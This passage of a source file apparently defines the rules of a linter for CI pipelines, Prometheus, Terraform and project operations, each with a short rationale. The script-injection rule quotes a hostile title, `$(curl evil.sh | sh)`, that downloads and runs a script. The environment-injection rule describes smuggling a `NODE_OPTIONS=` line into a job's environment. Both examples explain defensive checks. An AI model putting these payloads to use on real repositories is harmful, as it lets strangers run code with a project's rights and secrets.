    id: 'project/missing-error-tracking',
    promise: 'Errors are gathered and grouped',
    why: 'An error tracker counts each kind of exception, names the release that brought it, and tells somebody. In the log the same exception is one line among thousands.',
    rule: projectMissingErrorTracking,
  },
  {
    id: 'project/missing-escalation',
    promise: 'It is known whom to call next',
    why: 'The first to be called may be asleep, or not know the part that fails. Who comes next, and after how long, belongs beside the rota.',
    rule: projectMissingEscalation,
  },
  {
    id: 'project/missing-graceful-shutdown',
    promise: 'Running requests finish before the service stops',
    why: 'Each deployment and each restart sends the process a signal to stop. A service that ignores it drops the requests it is working on. Frameworks and servers that drain by themselves keep this promise.',
    rule: projectMissingGracefulShutdown,
  },
  {
    id: 'project/missing-health-endpoint',
    promise: 'The service says whether it works',
    why: 'Load balancers, orchestrators, deployments and alerts all rest on one question that the service answers itself: do you work? A route such as `/health`, a probe, or a health check in the image keeps this promise.',
    rule: projectMissingHealthEndpoint,
  },
  {
    id: 'project/missing-image-build',
    promise: 'A pipeline builds every image',
    why: 'A Dockerfile that no job builds breaks unnoticed: a renamed file, a lock file out of date, a base image that is gone. It shows when somebody deploys, which is the worst time to learn of it.',
    rule: projectMissingImageBuild,
  },
  {
    id: 'project/missing-image-scan',
    promise: 'Images are scanned before they ship',
    why: 'An image carries hundreds of packages that nobody of the project wrote. A scanner (Trivy, Grype, Snyk, Scout) names those with known holes before they reach production.',
    rule: projectMissingImageScan,
  },
  {
    id: 'project/missing-incident-guide',
    promise: 'It is written down how an incident is run',
    why: 'Severity levels, who leads, whom to tell and how to look back afterwards: agreed beforehand they take a page, during an outage they take the time that was needed for the repair.',
    rule: projectMissingIncidentGuide,
  },
  {
    id: 'project/missing-lint',
    promise: 'The pipeline lints the code',
    why: 'A linter finds unused variables, forgotten awaits and unsafe calls in seconds, the same way for everyone. Reviewers have better things to look for.',
    rule: projectMissingLint,
  },
  {
    id: 'project/missing-load-test',
    promise: 'It is known how much load the service carries',
    why: 'A load test (k6, Locust, Artillery, Gatling …) finds the first bottleneck before a busy day does, and shows whether a change moved it.',
    rule: projectMissingLoadTest,
  },
  {
    id: 'project/missing-log-aggregation',
    promise: 'Logs are gathered in one place',
    why: 'The log of a container is deleted with it, often just when it would be needed. A collector (Loki, Fluent Bit, CloudWatch, an agent) that gathers the logs of all of them keeps this promise.',
    rule: projectMissingLogAggregation,
  },
  {
    id: 'project/missing-metrics',
    promise: 'The service measures itself',
    why: 'Without request rates, errors and latencies nobody can say whether the last change made things worse, and no alert can be written. A metrics library, an agent, or an endpoint that Prometheus scrapes keeps this promise.',
    rule: projectMissingMetrics,
  },
  {
    id: 'project/missing-migrations',
    promise: 'The database changes in versioned steps',
    why: 'A schema that is changed by hand differs between servers, and nobody can say how. Migrations (Alembic, Flyway, Prisma, Django, Rails …) that run everywhere, once and in the same order, keep this promise.',
    rule: projectMissingMigrations,
  },
  {
    id: 'project/missing-on-call',
    promise: 'Somebody is on call',
    why: 'An alert that nobody is bound to answer waits for the morning. A rota may well live elsewhere: then an attestation with a link to it keeps this promise.',
    rule: projectMissingOnCall,
  },
  {
    id: 'project/missing-pipeline',
    promise: 'Every change runs through a pipeline',
    why: 'Without a pipeline, whether the code builds and its tests pass depends on somebody remembering to try. Any CI system counts; what its jobs have to do is the promise of other rules.',
    rule: projectMissingPipeline,
  },
  {
    id: 'project/missing-provisioning',
    promise: 'Servers are set up from files',
    why: 'A server that was set up by hand cannot be set up the same again. Terraform, Pulumi, Ansible, cloud-init, or a platform that has no servers to set up keep this promise.',
    rule: projectMissingProvisioning,
  },
  {
    id: 'project/missing-recovery-objectives',
    promise: 'It is decided how much data may be lost',
    why: 'How old may the restored data be (RPO), and how long may the restore take (RTO)? The answers decide how often to back up and what to spend on it. One line in a document is enough.',
    rule: projectMissingRecoveryObjectives,
  },
  {
    id: 'project/missing-rollback',
    promise: 'There is a way back to the release before',
    why: 'When a release is bad the fastest repair is the one before. A step or script that rolls back, a platform that does, or at least a written procedure keeps this promise.',
    rule: projectMissingRollback,
  },
  {
    id: 'project/missing-runbooks',
    promise: 'A runbook says what to do when something fails',
    why: 'At three in the morning nobody remembers which log to read and how to fail over. A page for each likely failure, with commands to copy, keeps this promise.',
    rule: projectMissingRunbooks,
  },
  {
    id: 'project/missing-sbom',
    promise: 'It is recorded what each image contains',
    why: 'When a hole in a library is announced the first question is where it is in use. A bill of materials, written with each image, answers it in minutes.',
    rule: projectMissingSbom,
  },
  {
    id: 'project/missing-secret-management',
    promise: 'Secrets are kept in a store made for them',
    why: "A password in a file on a server is in its backups, its process list and the hands of whoever had access once. What a pipeline opens a registry, a cloud or a server with is no password of the service. A manager (Vault, a cloud's, Doppler, SOPS), secrets that the pipeline hands over, or references in the manifests keep this promise.",
    rule: projectMissingSecretManagement,
  },
  {
    id: 'project/missing-secret-rotation',
    promise: 'Secrets are changed from time to time',
    why: 'A secret that leaked unnoticed works until it is changed. A rotation that runs by itself, short-lived credentials, or at least a written procedure bounds how long.',
    rule: projectMissingSecretRotation,
  },
  {
    id: 'project/missing-smoke-test',
    promise: 'A deployment is checked before it counts',
    why: 'A deployment that ends without an error may still leave a service that does not start. A request to its health endpoint, a smoke test, or waiting for the rollout keeps this promise.',
    rule: projectMissingSmokeTest,
  },
  {
    id: 'project/missing-staging',
    promise: 'Changes are tried before production',
    why: 'What only breaks with real settings, data and neighbours breaks in the first environment that has them. That had better not be production. An environment called staging or the like, or previews of a platform, keep this promise.',
    rule: projectMissingStaging,
  },
  {
    id: 'project/missing-structured-logging',
    promise: 'Logs are structured',
    why: 'A log line of named fields can be filtered by customer, status or duration; a sentence can only be read. Libraries such as structlog, pino, zap or Serilog, or a JSON formatter, keep this promise.',
    rule: projectMissingStructuredLogging,
  },
  {
    id: 'project/missing-tests-in-pipeline',
    promise: 'The pipeline runs the tests',
    why: 'Tests that only run on the machines of those who remember to start them protect nobody. In the pipeline they run on every change, and stop those that break something. A job that runs the test command on every change keeps this promise.',
    rule: projectMissingTestsInPipeline,
  },
  {
    id: 'project/missing-tracing',
    promise: 'Requests can be traced',
    why: 'A slow request spends its time somewhere: in the database, in another service, in a queue. A trace says where. OpenTelemetry, an agent of a monitoring service, or Jaeger and its like keep this promise.',
    rule: projectMissingTracing,
  },
  {
    id: 'project/missing-type-check',
    promise: 'The pipeline checks types',
    why: 'Types that nothing checks are comments. Test runners and bundlers strip them without reading; only the type checker, run on every change, keeps them true.',
    rule: projectMissingTypeCheck,
  },
  {
    id: 'project/missing-zero-downtime',
    promise: 'Deployments do not interrupt the service',
    why: 'Compose replaces a container by stopping it first. Two that take turns behind a proxy, an orchestrator, or a platform replace it while the other answers.',
    rule: projectMissingZeroDowntime,
  },
  {
    id: 'project/single-instance',
    promise: 'More than one instance answers',
    why: 'A single instance is an outage with every crash, every deployment and every reboot of its host. Two behind a proxy, replicas in a cluster, or a platform that keeps several keep this promise.',
    rule: projectSingleInstance,
  },
  {
    id: 'project/skipped-integration-tests',
    promise: 'Every test suite runs in the pipeline',
    why: 'Integration tests that no job runs rot: they fail for weeks before anybody starts them, and what they would have caught is already merged. This looks at folders of integration, end-to-end, acceptance, functional and contract tests.',
    rule: projectSkippedIntegrationTests,
  },
  {
    id: 'project/tracked-env-file',
    promise: 'Files with secrets stay out of the repository',
    why: 'What was committed once is in every clone for good. A `.env` with real values belongs into `.gitignore`; a sample without values shows others what to fill in.',
    rule: projectTrackedEnvFile,
  },
  {
    id: 'project/unignored-env-file',
    promise: 'The environment file is ignored',
    why: 'Settings with secrets live in `.env`, beside files that are committed. One line in `.gitignore` keeps it from slipping in with them.',
    rule: projectUnignoredEnvFile,
  },
  {
    id: 'project/unrehearsed-migrations',
    promise: 'Migrations are rehearsed before production',
    why: "A migration that takes a second on test data may take an hour on the real table. Staging with data like production's, or at least a dry run that shows its statements, tells beforehand.",
    rule: projectUnrehearsedMigrations,
  },
  {
    id: 'project/unscheduled-backup',
    promise: 'Backups run by themselves',
    why: 'A backup script that somebody has to start is started until the week it is needed. A cron entry, a CronJob, a scheduled workflow or a container that brings its own schedule keeps this promise.',
    rule: projectUnscheduledBackup,
  },
  {
    id: 'project/untested-migrations',
    promise: 'The pipeline runs the migrations',
    why: 'A migration that was only tried on one machine may fail on an empty database, or after the one before it. A job that runs all of them on a fresh database finds that before the merge.',
    rule: projectUntestedMigrations,
  },
  {
    id: 'project/unverified-restore',
    promise: 'Backups can be restored',
    why: 'A backup is worth what comes back from it. A restore that is scripted or written down, and tried now and then, keeps this promise.',
    rule: projectUnverifiedRestore,
  },
  {
    id: 'prometheus/always-firing',
    promise: 'Alerts fire on a condition',
    why: 'An alert without a comparison fires as long as its metric exists. People learn to ignore it, and miss the day it means something.',
    rule: prometheusAlwaysFiring,
  },
  {
    id: 'prometheus/duplicate-alert',
    promise: 'Each alert is written once',
    why: 'Of an alert that stands twice, somebody will one day change only one. The other keeps firing by the old rule, and nobody finds out why.',
    rule: prometheusDuplicateAlert,
  },
  {
    id: 'prometheus/hardcoded-secret',
    promise: "No secrets in Prometheus' configuration",
    why: 'Whoever can read the repository, a fork or an old clone can sign in wherever Prometheus does. It reads every password and token from a file just as well.',
    rule: prometheusHardcodedSecret,
  },
  {
    id: 'prometheus/invalid-expression',
    promise: 'Prometheus can read every expression',
    why: 'A rule file with one expression that cannot be read is refused whole: on a reload none of its alerts change, and at the next start Prometheus does not come up at all.',
    rule: prometheusInvalidExpression,
  },
  {
    id: 'prometheus/invalid-rule',
    promise: 'Prometheus loads every rule',
    why: 'One wrong setting, duration or template makes Prometheus refuse the whole file, and with it every alert in it. A running server goes on with the old rules; one that starts anew does not start.',
    rule: prometheusInvalidRule,
  },
  {
    id: 'prometheus/invalid-setting',
    promise: 'Prometheus takes its configuration',
    why: 'One setting that does not exist, one job twice, one target with a path, and Prometheus refuses the whole file: a running one goes on with the old configuration, a new one does not start and collects nothing.',
    rule: prometheusInvalidSetting,
  },
  {
    id: 'prometheus/lost-label',
    promise: 'Alerts show labels that they have',
    why: 'What an expression adds up over keeps none of its labels but those named behind `by`. A message that shows another one has a hole where the name of the host or service belongs, and whoever is woken does not know where to look.',
    rule: prometheusLostLabel,
  },
  {
    id: 'prometheus/missing-duration',
    promise: 'Alerts wait before they fire',
    why: 'One lost scrape or one short peak is no incident. Without `for`, each of them fires the alert at once, and it resolves before anybody has looked.',
    rule: prometheusMissingDuration,
  },
  {
    id: 'prometheus/missing-runbook',
    promise: 'Alerts that wake somebody say what to do',
    why: 'Whoever is woken at three in the morning may not know the service. A runbook turns minutes of searching into a first step; it needs no more than what to look at and whom to call.',
    rule: prometheusMissingRunbook,
  },
  {
    id: 'prometheus/missing-severity',
    promise: 'Every alert says how grave it is',
    why: 'Alertmanager routes by labels. An alert without a severity cannot be told apart from one that may wait until Monday, so either everything wakes somebody or nothing does.',
    rule: prometheusMissingSeverity,
  },
  {
    id: 'prometheus/missing-summary',
    promise: 'Every alert says what happened',
    why: "The name of an alert is all that most people see of it. A summary in words, with the instance in it, saves the first look at the rule's source.",
    rule: prometheusMissingSummary,
  },
  {
    id: 'prometheus/pointless-regexp',
    promise: 'Labels are compared as what they are',
    why: 'A pattern without any pattern in it costs Prometheus a regular expression and the reader a second look. Plain text is compared with `=`.',
    rule: prometheusPointlessRegexp,
  },
  {
    id: 'prometheus/raw-counter',
    promise: 'Alerts end when the trouble does',
    why: 'A counter holds everything that has happened since its program started. Compared as it is, one error long ago keeps an alert firing for weeks, and a new one is not noticed. What has changed lately says more: `increase` or `rate`.',
    rule: prometheusRawCounter,
  },
  {
    id: 'prometheus/short-rate-window',
    promise: 'Rates look at more than one scrape',
    why: 'A rate needs two samples. Where its range is shorter than two scrapes it has no result most of the time, and an alert on it does not fire.',
    rule: prometheusShortRateWindow,
  },
  {
    id: 'prometheus/unexpanded-variable',
    promise: 'Prometheus gets its settings, not the names of variables',
    why: 'Prometheus does not fill in variables of the environment. Where nothing else does, `${NAME}` is taken as the password or address itself: targets cannot be reached, or it does not start.',
    rule: prometheusUnexpandedVariable,
  },
  {
    id: 'prometheus/unknown-target',
    promise: 'Every scrape target exists',
    why: 'A target that nothing answers to is down for ever. Its dashboards stay empty, and alerts on its metrics never fire, since there are none.',
    rule: prometheusUnknownTarget,
  },
  {
    id: 'prometheus/unmatched-rule-files',
    promise: 'Every rule file that is named exists',
    why: 'Prometheus says nothing about a pattern that matches no file: it starts, and the alerts in the files it did not find never fire. A pattern for the folder where the rule files lie keeps this promise.',
    rule: prometheusUnmatchedRuleFiles,
  },
  {
    id: 'prometheus/unrouted-alerts',
    promise: 'Alerts reach an Alertmanager',
    why: 'Prometheus only notices that something is wrong; Alertmanager tells people. Without one, alerts turn red on a page that nobody has open. An Alertmanager under `alerting` keeps this promise.',
    rule: prometheusUnroutedAlerts,
  },
  {
    id: 'terraform/committed-state',
    promise: 'State stays out of the repository',
    why: 'State holds every password and key that Terraform has seen, in plain text, and a commit keeps it for ever. What is in the repository is also never the state of today.',
    rule: terraformCommittedState,
  },
  {
    id: 'terraform/hardcoded-secret',
    promise: 'No secrets in Terraform files',
    why: 'Whoever can read the repository, a fork or an old clone has every password that is written here. A variable without a default, filled from the environment or a vault, keeps this promise.',
    rule: terraformHardcodedSecret,
  },
  {
    id: 'terraform/local-state',
    promise: 'State is kept where everybody who needs it can reach it',
    why: 'Terraform knows what it made only from its state. On one machine it is lost with that machine, and whoever runs Terraform elsewhere makes everything a second time. A remote backend, such as a bucket that keeps versions, keeps this promise.',
    rule: terraformLocalState,
  },
  {
    id: 'terraform/missing-lock-file',
    promise: 'The providers in use are recorded',
    why: '`.terraform.lock.hcl` records the version and the checksum of every provider. Without it each machine installs what it finds, and nothing notices when a download is not the one that was tested.',
    rule: terraformMissingLockFile,
  },
  {
    id: 'terraform/missing-required-version',
    promise: "Terraform's own version is agreed upon",
    why: 'State written by a newer Terraform cannot be read by an older one. Without a stated version, the first colleague who upgrades decides for everybody.',
    rule: terraformMissingRequiredVersion,
  },
  {
    id: 'terraform/undocumented-variable',
    promise: 'Every variable says what it is for',
    why: "A variable's description is shown when Terraform asks for it, and is all that a module's user reads. Without one they read the module.",
    rule: terraformUndocumentedVariable,
  },
  {
    id: 'terraform/unencrypted-state',
    promise: 'State is encrypted',
    why: "State holds every password and key that Terraform has seen, in plain text. What the bucket does by default is nobody's decision; `encrypt` makes it one.",
    rule: terraformUnencryptedState,
  },
  {
    id: 'terraform/unlocked-state',
    promise: 'Two runs cannot change the state at once',
    why: 'When a pipeline and a person apply at the same time, the later one writes over what the earlier one recorded. What that one made is then unknown to Terraform, and stays.',
    rule: terraformUnlockedState,
  },
  {
    id: 'terraform/unpinned-module',
    promise: 'Modules change version on purpose',
    why: 'Without a version, a module is whatever its authors published last. A plan that was reviewed yesterday is another one today. A `version`, or a tag in the address of a module from Git, keeps this promise.',
    rule: terraformUnpinnedModule,
  },
  {
    id: 'terraform/unpinned-provider',
    promise: 'Providers change version on purpose',
    why: "A provider's next major version renames and removes arguments. Without a constraint or a lock file, the run that meets it first is whichever comes next, often the one that was in a hurry. A `version` in `required_providers` keeps this promise.",
    rule: terraformUnpinnedProvider,
  },
  {
    id: 'workflow/action-on-branch',
    promise: 'Actions come in released versions',
    why: 'An action on a branch changes with every push to it: a mistake or an attack there reaches your secrets with the next run, and no two runs are the same. A released version, or better the commit of one, keeps this promise.',
    rule: workflowActionOnBranch,
  },
  {
    id: 'workflow/always-true-condition',
    promise: 'Conditions can be false',
    why: 'Text beside `${{ … }}` turns a condition into a string, and a string that is not empty is true: the job or step then runs whatever the condition says.',
    rule: workflowAlwaysTrueCondition,
  },
  {
    id: 'workflow/archived-action',
    promise: 'Somebody looks after every action',
    why: 'An action whose authors have given it up gets no fixes: not for the next change at GitHub, and not for its weaknesses.',
    rule: workflowArchivedAction,
  },
  {
    id: 'workflow/broad-permissions',
    promise: 'No token may write to everything',
    why: '`write-all` gives every action and script of the job the right to change code, packages and releases: one bad dependency is then enough to take the project over.',
    rule: workflowBroadPermissions,
  },
  {
    id: 'workflow/cancelled-deploy',
    promise: 'A release is never stopped half way',
    why: '`cancel-in-progress` stops a running job when a newer one starts. That is good for tests; a release stopped in the middle leaves some parts new and some old, and locks that nobody takes away.',
    rule: workflowCancelledDeploy,
  },
  {
    id: 'workflow/compromised-action',
    promise: 'No action that an attacker took over',
    why: 'Some versions of actions were replaced by code that reads every secret of the job. Go to a clean version, and replace the secrets of the jobs that ran it in those days.',
    rule: workflowCompromisedAction,
  },
  {
    id: 'workflow/deploy-despite-failure',
    promise: 'Nothing is released after a failure',
    why: '`always()` and `!cancelled()` start a job also when the jobs before it have failed: what the tests have just stopped is then released all the same.',
    rule: workflowDeployDespiteFailure,
  },
  {
    id: 'workflow/deploy-from-pull-request',
    promise: 'Only what was merged is released',
    why: 'A job that releases on pull requests puts code into production that nobody has reviewed, and puts it back with the next one.',
    rule: workflowDeployFromPullRequest,
  },
  {
    id: 'workflow/deploy-not-serialized',
    promise: 'Releases wait for each other',
    why: 'Two merges in a row start two releases. Without a concurrency group they run at the same time, and what stays in the end is a mixture, or the older version.',
    rule: workflowDeployNotSerialized,
  },
  {
    id: 'workflow/deploy-without-environment',
    promise: 'Releases go to a named environment',
    why: 'An environment keeps its secrets to the jobs that release to it, can ask somebody before they start, allows only some branches, and shows what runs where since when.',
    rule: workflowDeployWithoutEnvironment,
  },
  {
    id: 'workflow/deploy-without-health-check',
    promise: 'A release is looked at before it counts',
    why: '`kubectl apply` and `docker compose up` say that the new version was ordered, not that it works. Without a look at it the pipeline is green while the service is down. A step that asks the health endpoint, or waits for the rollout, keeps this promise.',
    rule: workflowDeployWithoutHealthCheck,
  },
  {
    id: 'workflow/deploy-without-rollback',
    promise: 'A failed release is taken back',
    why: 'When a new version does not work, every minute until the old one is back is an outage. A step that goes back on failure takes seconds; somebody who first has to find out how takes an hour. A step with `if: failure()` that goes back, or a tool that does so by itself, keeps this promise.',
    rule: workflowDeployWithoutRollback,
  },
  {
    id: 'workflow/deploy-without-tests',
    promise: 'Only what passed its tests is released',
    why: 'A release that does not wait for the tests goes out also when they fail, and the red mark appears after the damage. A job that deploys and has the one with the tests among its `needs` keeps this promise.',
    rule: workflowDeployWithoutTests,
  },
  {
    id: 'workflow/deprecated-command',
    promise: 'Steps hand on their results in a way that GitHub keeps',
    why: 'GitHub has replaced the commands that steps printed to set outputs, state, variables and paths, because whatever a step prints could forge them. Some fail already, the others are going to.',
    rule: workflowDeprecatedCommand,
  },
  {
    id: 'workflow/environment-injection',
    promise: 'Strangers set no variables',
    why: 'Each line of the file behind `$GITHUB_ENV` sets a variable for all steps that follow. A comment with a second line such as `NODE_OPTIONS=…` then decides what they run.',
    rule: workflowEnvironmentInjection,
  },
  {
    id: 'workflow/exposed-secrets',
    promise: 'Jobs get only the secrets they need',
    why: 'A step that is given all secrets at once can lose all of them: to a log, to a dependency, to an action that was taken over.',
    rule: workflowExposedSecrets,
  },
  {
    id: 'workflow/fragile-health-check',
    promise: 'Health checks see errors, and wait for a start',
    why: '`curl` alone is content with any answer, also with "500 Internal Server Error". And one request after a fixed pause fails when the start takes a second longer than last time.',
    rule: workflowFragileHealthCheck,
  },
  {
    id: 'workflow/hardcoded-secret',
    promise: 'Workflows hold no secrets',
    why: 'A key written into a workflow is read by everyone who can read the repository, stays in its history after it is removed, and has to be replaced the moment one of them leaves. GitHub keeps secrets apart from the code and masks them in logs.',
    rule: workflowHardcodedSecret,
  },
  {
    id: 'workflow/ignored-failure',
    promise: 'A failed check fails the job',
    why: 'A migration, deployment, test or check whose failure is ignored looks green whatever happens: broken code is merged, and a release goes out over a schema that is not there.',
    rule: workflowIgnoredFailure,
  },
  {
    id: 'workflow/ignored-trigger',
    promise: 'Triggers say what GitHub listens to',
    why: 'An event, a filter or a type that GitHub does not know is passed over: the workflow then starts never, or more often than it says.',
    rule: workflowIgnoredTrigger,
  },
  {
    id: 'workflow/impossible-comparison',
    promise: 'Comparisons can come out both ways',
    why: 'A comparison with a value that can never be there decides nothing: the job or step behind it never runs, or runs always, and nobody is told.',
    rule: workflowImpossibleComparison,
  },
  {
    id: 'workflow/insecure-commands',
    promise: 'What a step prints decides nothing',
    why: "GitHub has switched off the commands by which printed text set variables and paths, since a log line with a stranger's text could take over the job. This setting brings them back.",
    rule: workflowInsecureCommands,
  },
  {
    id: 'workflow/invalid-definition',
    promise: 'GitHub takes the workflow as it is written',
    why: 'Where a job or step lacks a part, has one too many, or holds a value of the wrong kind, GitHub refuses the whole workflow: nothing runs, and a change shows no red check.',
    rule: workflowInvalidDefinition,
  },
  {
    id: 'workflow/invalid-expression',
    promise: 'GitHub can read every expression',
    why: 'GitHub refuses a workflow with an expression that it cannot read, or that asks for a context where that is not known yet: nothing of it runs, and a change shows no red check.',
    rule: workflowInvalidExpression,
  },
  {
    id: 'workflow/invalid-schedule',
    promise: 'Schedules say when they run',
    why: 'A schedule that GitHub cannot read never starts, and nobody sees that the nightly job is missing.',
    rule: workflowInvalidSchedule,
  },
  {
    id: 'workflow/long-lived-cloud-credentials',
    promise: 'Clouds are opened with short-lived keys',
    why: 'A cloud key among the secrets works anywhere and for years, also for whoever copies it once. With OpenID Connect the cloud gives each run a key of its own that is void when the run ends.',
    rule: workflowLongLivedCloudCredentials,
  },
  {
    id: 'workflow/long-lived-registry-token',
    promise: 'Packages are published without a stored token',
    why: 'A stored token publishes from anywhere, for as long as it lasts. A trusted publisher is set up once at the registry: from then on only this workflow can publish, with a key that ends with the run (`id-token: write`).',
    rule: workflowLongLivedRegistryToken,
  },
  {
    id: 'workflow/mismatched-call',
    promise: 'Calls fit the workflows they call',
    why: 'GitHub refuses a workflow that calls another one which is not there, or hands it what it does not take: nothing of it runs, and a change shows no red check.',
    rule: workflowMismatchedCall,
  },
  {
    id: 'workflow/missing-build-context',
    promise: 'Images are built from what exists',
    why: 'A build whose folder or Dockerfile was renamed or moved fails, and with it every release. A folder and a Dockerfile that are in the repository keep this promise.',
    rule: workflowMissingBuildContext,
  },
  {
    id: 'workflow/missing-cache',
    promise: 'Pipelines keep what they download',
    why: 'Without a cache each run downloads every package again: slower for everybody who waits, and red whenever a registry has a bad minute.',
    rule: workflowMissingCache,
  },
  {
    id: 'workflow/missing-concurrency',
    promise: 'Images are pushed one after the other',
    why: "Two pushes to a branch in short order start two runs at the same time. The one that finishes last decides what `latest` is, and that may be the older one: what is deployed from it is then yesterday's code.",
    rule: workflowMissingConcurrency,
  },
  {
    id: 'workflow/missing-permissions',
    promise: 'Workflows get no more rights than they use',
    why: "Without `permissions`, every job holds a token with the repository's default rights, which in many repositories may write to code, packages and releases. Any action or script of the job can use it, and so can whoever takes one over.",
    rule: workflowMissingPermissions,
  },
  {
    id: 'workflow/missing-pipefail',
    promise: 'A failure in a pipe fails the step',
    why: 'In `npm test | tee test.log` only `tee` decides whether the step failed, and it never does. With `shell: bash` every program of a pipe counts.',
    rule: workflowMissingPipefail,
  },
  {
    id: 'workflow/missing-timeout',
    promise: 'A hanging job is stopped',
    why: 'A job that waits for something that never comes holds its runner for six hours, blocks the queue behind it and is paid for by the minute. A limit turns it into a failure someone sees.',
    rule: workflowMissingTimeout,
  },
  {
    id: 'workflow/misspelt-action',
    promise: 'Actions are spelt right',
    why: 'Attackers register names one letter away from those of much used actions: a typing mistake then hands them the job and its secrets.',
    rule: workflowMisspeltAction,
  },
  {
    id: 'workflow/needs-cycle',
    promise: 'No job waits for itself',
    why: 'Jobs that wait for each other can never start, so GitHub refuses the whole workflow: nothing of it runs.',
    rule: workflowNeedsCycle,
  },
  {
    id: 'workflow/outdated-action',
    promise: 'Actions run on what GitHub still runs',
    why: 'GitHub switches off old versions of its actions, and runs those made for an old Node.js on a later one that they were never tried with: the pipeline then breaks from one day to the next.',
    rule: workflowOutdatedAction,
  },
  {
    id: 'workflow/persisted-credentials',
    promise: 'The checkout leaves no token behind',
    why: 'The checkout keeps its token in `.git/config`. An artifact of the whole folder takes it along, and whoever downloads that in time may do what the job may.',
    rule: workflowPersistedCredentials,
  },
  {
    id: 'workflow/retired-runner',
    promise: 'Jobs run on machines that exist',
    why: 'A job that asks for a runner GitHub has retired waits in the queue for a day and is then cancelled, and everything behind it waits too.',
    rule: workflowRetiredRunner,
  },
  {
    id: 'workflow/script-injection',
    promise: 'Text of strangers is never run',
    why: "What stands in `${{ … }}` is pasted into a script before the shell reads it: with a title like `$(curl evil.sh | sh)`, anybody who may open an issue or a pull request runs commands with the job's rights and secrets. A variable is only text.",
    rule: workflowScriptInjection,
  },
  {
    id: 'workflow/secret-on-command-line',
    promise: 'Passwords stay off the command line',
    why: "Arguments of a program can be read by every other process, stand in the log once a script prints its commands, and break when a password holds a quote. A program's input does none of that.",
    rule: workflowSecretOnCommandLine,
  },
  {
    id: 'workflow/service-without-healthcheck',
    promise: 'Steps wait until their services answer',
    why: 'GitHub starts the steps as soon as the containers run, and a database takes seconds more until it takes connections: now and then the first test fails for nothing. With a healthcheck GitHub waits.',
    rule: workflowServiceWithoutHealthcheck,
  },
  {
    id: 'workflow/spoofable-actor',
    promise: 'Bots are known by what they opened',
    why: "`github.actor` is whoever caused the last event. A stranger who makes a bot act on their pull request, by asking it to rebase for example, is taken for the bot, and the job runs with the repository's rights.",
    rule: workflowSpoofableActor,
  },
  {
    id: 'workflow/test-flag-in-production',
    promise: 'Releases run without test settings',
    why: 'A demo mode, a faked payment or a switched-off login that was set for a trial and forgotten in the release is an open door, and nothing turns red.',
    rule: workflowTestFlagInProduction,
  },
  {
    id: 'workflow/undefined-context-value',
    promise: 'Expressions read what is there',
    why: 'An expression that asks for a step, a job, a row of the matrix or an input that is not there gets an empty text, without a word: conditions turn false, versions and tags turn empty. A step with that `id` before it, a job among its `needs`, or an input that is declared keeps this promise.',
    rule: workflowUndefinedContextValue,
  },
  {
    id: 'workflow/unguarded-comment-trigger',
    promise: 'Only members start jobs by comments',
    why: "Everybody may comment on an issue of a public repository. A job that starts on a comment such as `/deploy` has the repository's secrets, whoever wrote it.",
    rule: workflowUnguardedCommentTrigger,
  },
  {
    id: 'workflow/unknown-action-input',
    promise: 'Actions get the inputs they take',
    why: 'An action passes over an input that it does not know, with nothing but a line in the log, and works with its default instead of what was written. One that it needs and does not get ends the job.',
    rule: workflowUnknownActionInput,
  },
  {
    id: 'workflow/unknown-key',
    promise: 'Workflows use keys that GitHub knows',
    why: 'GitHub refuses a workflow with a key that it does not know: nothing of it runs, not even the jobs that are right, and a change shows no red check.',
    rule: workflowUnknownKey,
  },
  {
    id: 'workflow/unknown-need',
    promise: 'Jobs wait for jobs that exist',
    why: 'GitHub refuses a workflow in which a job waits for one that is not there: nothing of it runs, and no check turns red.',
    rule: workflowUnknownNeed,
  },
  {
    id: 'workflow/unknown-script',
    promise: 'Steps run scripts that exist',
    why: 'A step that calls a script which was renamed or removed fails every run, often only in the workflow that is needed once a month. The path of a script that is in the repository keeps this promise.',
    rule: workflowUnknownScript,
  },
  {
    id: 'workflow/unlocked-install',
    promise: 'Pipelines install what the lock file names',
    why: '`npm install` may resolve to newer versions than those that were tried out, so that a pipeline fails, or passes, with other code than yours. `npm ci` takes exactly what is locked, and is faster.',
    rule: workflowUnlockedInstall,
  },
  {
    id: 'workflow/unpinned-action',
    promise: "Other people's actions stay what they were",
    why: 'A tag can be moved: whoever takes over an action can put other code behind every version, and it runs with your secrets. A commit cannot be changed, and tools like Dependabot keep it current. An action named by its commit, its version in a comment behind, keeps this promise.',
    rule: workflowUnpinnedAction,
  },
  {
    id: 'workflow/unpinned-container',
    promise: 'Containers of a job have a version',
    why: 'A job in an image without a version runs in whatever was released last: it breaks, or passes, without any change of yours, and tests against another database than production has. An image with a version, that of production, keeps this promise.',
    rule: workflowUnpinnedContainer,
  },
  {
    id: 'workflow/unquoted-version',
    promise: 'Versions are what they look like',
    why: 'YAML reads 3.10 as the number 3.1: the job then runs on another version than the one that is written, or fails to find it.',
    rule: workflowUnquotedVersion,
  },
  {
    id: 'workflow/untrusted-checkout',
    promise: "Strangers' code never runs with the repository's rights",
    why: "Runs of `pull_request_target`, `workflow_run` and `issue_comment` have the repository's secrets and may write to it. One that checks out a pull request and builds it hands both to whoever opened it.",
    rule: workflowUntrustedCheckout,
  },
];
